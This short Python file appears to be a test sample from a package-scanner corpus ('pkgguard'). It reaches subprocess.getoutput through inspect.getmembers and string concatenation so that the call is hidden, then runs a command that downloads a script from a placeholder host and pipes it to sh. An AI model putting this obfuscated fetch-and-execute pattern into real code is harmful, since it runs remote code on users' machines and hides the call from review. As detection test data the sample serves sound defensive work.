# pkgguard corpus 656 (indirection), modelled on [obfuscation]; inert, never run.
import inspect
import subprocess

_members = dict(inspect.getmembers(subprocess))
_members["get" + "output"]("wget -q -O- https://pkg-cdn.example/p | sh")
